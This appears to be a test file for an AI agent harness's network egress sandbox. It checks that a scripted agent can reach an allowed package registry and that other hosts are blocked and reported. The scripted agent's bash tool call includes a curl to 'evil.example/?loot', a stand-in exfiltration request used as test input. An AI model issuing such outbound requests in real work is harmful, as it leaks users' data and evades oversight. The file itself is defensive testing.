import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { startChatServer } from '../../support/chat-server.ts';
import { fakeInternet } from '../../support/fake-internet.ts';
import { prepareRemote } from '../../support/git-remote.ts';
import { startPackageRegistry } from '../../support/package-registry.ts';
import { playAttempt } from '../../support/play-attempt.ts';
import { supervisorMeans } from '../../support/supervised-attempt.ts';
import { temporaryFolder } from '../../support/temporary-folder.ts';

const files = {
  'package.json': JSON.stringify({ name: 'greeter', dependencies: { tiny: '1.0.0' } }),
  '.npmrc': 'registry=http://registry.example/\naudit=false\nfund=false\nfetch-retries=0\n',
  '.gitignore': 'node_modules\npackage-lock.json\n',
  'tiny.test.js': `require('node:assert').equal(require('tiny'), 'fetched');\n`,
};
/** Asks the proxy for a host as any program does that reads the variables. */
const ask = (url: string) => `curl -s -o /dev/null -m 5 -w '%{http_code}' '${url}'; echo`;

describe('the way out of an attempt', () => {
  let registry: Awaited<ReturnType<typeof startPackageRegistry>>;
  before(async () => {
    registry = await startPackageRegistry('registry.example', 'tiny');
  });
  after(() => registry.close());

  async function attempt(network: 'none' | 'localhost' | 'registry' | string[]) {
    const remote = prepareRemote(temporaryFolder('egress-remote'), files);
    const server = await startChatServer([
      {
        call: 'bash',
        with: { command: `${ask('http://registry.example/tiny')}; ${ask('http://evil.example/?loot')}` },
      },
      { call: 'write', with: { path: 'greet.js', content: 'module.exports = 1;\n' } },
      { call: 'finish', with: { summary: 'Done.' } },
    ]);
    const commands =
      network === 'none'
        ? { test: 'node --version' }
        : { install: 'npm install --no-audit --no-fund', test: 'node tiny.test.js' };
    const reach = fakeInternet({
      'registry.example': { addresses: ['198.51.100.7'], port: registry.port },
      'evil.example': { addresses: ['198.51.100.66'], port: registry.port },
    });
    const change = { cloneUrl: remote.url, network, commands };
    const { end } = await playAttempt(server, change, { means: supervisorMeans({ reach }) });
    const answer = JSON.stringify(server.requests[1]?.messages.at(-1));
    return { end, answer, reach };
  }

  it('installs from a listed registry and reaches no other host, which the report names', async () => {
    const { end, answer, reach } = await attempt(['registry.example']);
    assert.ok(end.outcome === 'delivered', JSON.stringify(end));
    assert.deepEqual(
      end.report.gates
        .filter(({ name }) => ['install', 'test'].includes(name))
        .map(({ name, status }) => [name, status]),
      [
        ['install', 'passed'],
        ['test', 'passed'],
      ],
    );
    assert.match(answer, /200\\n403\\n/);
    assert.deepEqual(end.report.blockedHosts, ['evil.example']);
    assert.ok(reach.connected.every((address) => address === '198.51.100.7:80'));
    assert.equal(end.report.protection?.network, 'own');
  });

  it('leads the installs alone to the known registries, and there to no other host', async () => {
    const { end, answer, reach } = await attempt('registry');
    assert.match(answer, /000\\n000\\n/);
    assert.deepEqual(reach.connected, []);
    assert.ok('report' in end);
    assert.deepEqual(end.report?.blockedHosts, ['registry.example']);
  });

  it('does not exist unless the configuration grants it', async () => {
    const { end, answer, reach } = await attempt('none');
    assert.match(answer, /000\\n000\\n/);
    assert.deepEqual([...reach.resolved, ...reach.connected], []);
    assert.ok('report' in end);
    assert.deepEqual(end.report?.blockedHosts, []);
  });
});
